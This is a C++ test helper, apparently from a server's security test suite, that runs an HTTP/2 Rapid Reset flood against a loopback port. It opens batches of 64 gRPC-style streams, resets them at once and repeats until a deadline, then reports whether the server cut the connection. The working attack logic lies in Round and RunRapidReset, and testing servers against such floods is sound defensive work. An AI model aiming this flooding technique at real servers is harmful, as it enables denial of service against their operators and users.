#include "tests/security/rapid_reset_client.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <nghttp2/nghttp2.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"

namespace sitrep::testing {
namespace {

// Streams opened per round before they are all reset: the server sees
// HEADERS x kBatch then RST_STREAM x kBatch in one write.
constexpr int kBatch = 64;

class Connection {
 public:
  ~Connection() {
    if (session_ != nullptr) nghttp2_session_del(session_);
    if (fd_ >= 0) close(fd_);
  }

  absl::Status Open(int port) {
    fd_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(static_cast<uint16_t>(port));
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    // A connect that the server's full backlog holds up ends with the
    // attack: bounded like everything else here.
    const timeval timeout{2, 0};
    if (fd_ >= 0) {
      setsockopt(fd_, SOL_SOCKET, SO_SNDTIMEO, &timeout, sizeof(timeout));
    }
    if (fd_ < 0 || connect(fd_, reinterpret_cast<sockaddr*>(&address),
                           sizeof(address)) != 0) {
      return absl::UnavailableError(
          absl::StrCat("connect 127.0.0.1:", port, ": ", strerror(errno)));
    }
    const int one = 1;
    setsockopt(fd_, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    nghttp2_session_callbacks* callbacks;
    nghttp2_session_callbacks_new(&callbacks);
    nghttp2_session_callbacks_set_send_callback(callbacks, &Connection::OnSend);
    nghttp2_session_client_new(&session_, callbacks, this);
    nghttp2_session_callbacks_del(callbacks);
    nghttp2_submit_settings(session_, NGHTTP2_FLAG_NONE, nullptr, 0);
    authority_ = absl::StrCat("127.0.0.1:", port);
    return absl::OkStatus();
  }

  // One round: kBatch requests, then their resets. False when the server
  // ended the connection or `deadline` passed.
  bool Round(const std::string& path, absl::Time deadline, uint64_t* streams) {
    // nghttp2 copies names and values when it serialises; they must live
    // until then.
    static const std::string kPost = "POST", kHttp = "http",
                             kGrpc = "application/grpc", kTrailers = "trailers";
    const nghttp2_nv headers[] = {
        Header(":method", kPost), Header(":scheme", kHttp),
        Header(":path", path), Header(":authority", authority_),
        Header("content-type", kGrpc), Header("te", kTrailers)};
    // A body that never comes: HEADERS without END_STREAM, as a real
    // client's call.
    nghttp2_data_provider body{};
    body.read_callback = [](nghttp2_session*, int32_t, uint8_t*, size_t,
                            uint32_t*, nghttp2_data_source*,
                            void*) -> ssize_t { return NGHTTP2_ERR_DEFERRED; };
    std::vector<int32_t> ids;
    for (int i = 0; i < kBatch; ++i) {
      const int32_t id = nghttp2_submit_request(
          session_, nullptr, headers, sizeof(headers) / sizeof(headers[0]),
          &body, nullptr);
      if (id < 0) return false;  // GOAWAY received: no new streams.
      ids.push_back(id);
    }
    if (nghttp2_session_send(session_) != 0) return false;
    for (int32_t id : ids) {
      nghttp2_submit_rst_stream(session_, NGHTTP2_FLAG_NONE, id,
                                NGHTTP2_CANCEL);
    }
    if (nghttp2_session_send(session_) != 0) return false;
    if (!Flush(deadline)) return false;
    *streams += ids.size();
    return Drain();
  }

 private:
  static nghttp2_nv Header(const char* name, const std::string& value) {
    return nghttp2_nv{
        reinterpret_cast<uint8_t*>(const_cast<char*>(name)),
        reinterpret_cast<uint8_t*>(const_cast<char*>(value.data())),
        strlen(name), value.size(), NGHTTP2_NV_FLAG_NONE};
  }

  static ssize_t OnSend(nghttp2_session*, const uint8_t* data, size_t length,
                        int, void* self) {
    static_cast<Connection*>(self)->out_.append(
        reinterpret_cast<const char*>(data), length);
    return static_cast<ssize_t>(length);
  }

  // Writes out_; false when the server closed or `deadline` passed.
  bool Flush(absl::Time deadline) {
    size_t sent = 0;
    while (sent < out_.size()) {
      const ssize_t n = send(fd_, out_.data() + sent, out_.size() - sent,
                             MSG_NOSIGNAL | MSG_DONTWAIT);
      if (n > 0) {
        sent += static_cast<size_t>(n);
        continue;
      }
      if (n < 0 && errno != EAGAIN && errno != EINTR) return false;
      const absl::Duration left = deadline - absl::Now();
      if (left <= absl::ZeroDuration()) return false;
      // The server is not reading: take what it sends meanwhile.
      pollfd wait{fd_, POLLOUT | POLLIN, 0};
      poll(&wait, 1,
           static_cast<int>(std::min<int64_t>(absl::ToInt64Milliseconds(left),
                                              100)) +
               1);
      if ((wait.revents & POLLIN) != 0 && !Drain()) return false;
    }
    out_.clear();
    return true;
  }

  // Reads what the server sent so far; false when it closed.
  bool Drain() {
    uint8_t buffer[16384];
    for (int i = 0; i < 64; ++i) {
      const ssize_t n = recv(fd_, buffer, sizeof(buffer), MSG_DONTWAIT);
      if (n == 0) return false;
      if (n < 0) return errno == EAGAIN || errno == EINTR;
      if (nghttp2_session_mem_recv(session_, buffer,
                                   static_cast<size_t>(n)) < 0) {
        return false;
      }
    }
    return nghttp2_session_want_read(session_) != 0;
  }

  int fd_ = -1;
  nghttp2_session* session_ = nullptr;
  std::string authority_;
  std::string out_;
};

}  // namespace

absl::StatusOr<RapidResetResult> RunRapidReset(int port,
                                               const std::string& path,
                                               absl::Duration duration,
                                               bool reconnect) {
  const absl::Time deadline = absl::Now() + duration;
  RapidResetResult result;
  // Bounded: a server that refuses at once cannot make this spin.
  for (int attempt = 0; attempt < 100000 && absl::Now() < deadline;
       ++attempt) {
    Connection connection;
    absl::Status opened = connection.Open(port);
    if (!opened.ok()) {
      if (result.connections == 0) return opened;
      result.server_closed = true;
      break;
    }
    ++result.connections;
    while (absl::Now() < deadline &&
           connection.Round(path, deadline, &result.streams)) {
    }
    if (absl::Now() < deadline) result.server_closed = true;
    if (!reconnect) break;
  }
  return result;
}

}  // namespace sitrep::testing
